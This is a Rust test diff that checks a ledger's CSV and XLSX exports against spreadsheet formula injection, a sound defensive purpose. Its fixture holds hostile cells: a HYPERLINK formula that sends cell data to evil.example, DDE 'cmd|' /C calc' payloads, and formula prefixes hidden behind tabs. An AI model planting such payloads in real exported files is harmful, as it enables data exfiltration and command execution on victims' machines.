@@ -1099,3 +1099,92 @@ fn export_timing() {
     );
     println!("| read rows as of a date (history) | {as_of_t:.2?} | |");
 }
+
+/// A ledger whose texts try to be spreadsheet formulas (CSV injection).
+fn hostile_ledger() -> Ledger {
+    let mut s = memory_store("office", "JGB", Role::Office, "O1");
+    s.create(
+        RecordKind::Dispute,
+        Some("WJK"),
+        &[
+            Edit::text("name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"),
+            Edit::text("category", "医疗卫生"),
+            Edit::text("situation", "+1+cmd|' /C calc'!A0"),
+            Edit::text("difficulties", "-2+3"),
+            Edit::text("remarks", "@SUM(1+1)*cmd|' /C calc'!A0"),
+            Edit::text("leader", "\t=1+1"),
+            Edit::text("responsible", "正常的名字"),
+            Edit::set("people_involved", FieldValue::Int(12)),
+        ],
+    )
+    .unwrap();
+    s.create(
+        RecordKind::Dispute,
+        Some("WJK"),
+        &[
+            Edit::text("name", "减号-在中间=不是公式"),
+            Edit::text("category", "医疗卫生"),
+            Edit::text("situation", "\r=1+1"),
+        ],
+    )
+    .unwrap();
+    Ledger::load(&s, &LedgerQuery::default(), &Campaign::default()).unwrap()
+}
+
+#[test]
+fn ledger_csv_neutralises_cells_a_spreadsheet_would_read_as_formulas() {
+    let l = hostile_ledger();
+    let bytes = l.csv().unwrap();
+    let text = csv_text(&bytes);
+    insta::assert_snapshot!("ledger_hostile_csv", text);
+    let rows = csv_rows(&bytes);
+    assert_eq!(rows.len(), 2);
+    let r = &rows[0];
+    assert_eq!(&r[1], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")");
+    assert_eq!(&r[3], "'+1+cmd|' /C calc'!A0");
+    assert_eq!(&r[5], "'-2+3");
+    assert_eq!(&r[9], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(&r[8], "正常的名字");
+    // Numbers stay numbers.
+    assert_eq!((&r[0], &r[10]), ("1", "12"));
+    assert_eq!(&r[7], "'=1+1");
+    assert_eq!(&rows[1][1], "减号-在中间=不是公式");
+    assert_eq!(&rows[1][3], "'=1+1");
+    assert_eq!(&rows[1][0], "2");
+    // No cell of the file starts a formula (the ledger trims its texts, so a leading tab or
+    // carriage return goes and the `=` behind it is neutralised).
+    for (i, row) in rows.iter().enumerate() {
+        for (c, v) in row.iter().enumerate() {
+            assert!(
+                !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "row {i} column {c} starts a formula: {v:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn ledger_xlsx_holds_formula_like_texts_as_text() {
+    let l = hostile_ledger();
+    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(l.xlsx().unwrap())).unwrap();
+    let r = wb.worksheet_range("统计表").unwrap();
+    assert_eq!(
+        r.get_value((3, 1)),
+        Some(&Data::String(
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")".into()
+        ))
+    );
+    assert_eq!(cell(&r, 3, 3), "+1+cmd|' /C calc'!A0");
+    assert_eq!(cell(&r, 3, 5), "-2+3");
+    assert_eq!(cell(&r, 3, 9), "@SUM(1+1)*cmd|' /C calc'!A0");
+    assert!(
+        matches!(r.get_value((3, 10)), Some(Data::Float(n)) if *n == 12.0),
+        "所涉人数 is a number"
+    );
+    let formulas = wb.worksheet_formula("统计表").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "the workbook holds no formula: {:?}",
+        formulas.used_cells().collect::<Vec<_>>()
+    );
+}
